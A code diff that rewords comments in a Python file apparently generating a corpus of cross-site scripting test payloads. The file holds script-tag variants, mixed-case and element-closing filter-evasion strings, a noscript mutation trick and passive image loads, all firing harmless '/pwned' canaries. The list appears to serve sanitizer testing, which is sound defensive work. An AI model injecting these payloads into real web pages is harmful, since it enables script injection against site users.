@@ -1,4 +1,4 @@
-"""Two hundred outputs that would act if a page let them: each would fetch /pwned, ask, or write `pwned` into the window."""
+"""Two hundred outputs that would act if a page let them: fetch /pwned, open a dialog, or set `pwned` in the window."""
 
 ACTIONS = (
     "top.pwned=1",
@@ -7,7 +7,8 @@ ACTIONS = (
     "location='/pwned'",
     "document.body.append(Object.assign(new Image(),{src:'/pwned'}))",
 )
-# Ways to run a script: HTML, SVG, MathML, addresses, attributes that a careless filter forgets, text that ends an element.
+# Ways to run a script: HTML, SVG, MathML, addresses, attributes that a careless filter misses, text that closes an
+# element.
 SCRIPTED = (
     "<script>{js}</script>",
     "<ScRiPt >{js}</sCrIpT>",
@@ -42,7 +43,7 @@ SCRIPTED = (
     '</textarea></title></style></noscript><img src=x onerror="{js}">',
     "<noscript><p title=\"</noscript><img src=x onerror='{js}'>\">",
 )
-# What needs no script: whatever would be fetched, followed or sent by itself.
+# Ways to act without a script: whatever browsers fetch, follow or send automatically.
 PASSIVE = (
     "<img src=/pwned>",
     "<img srcset='/pwned 1x'>",
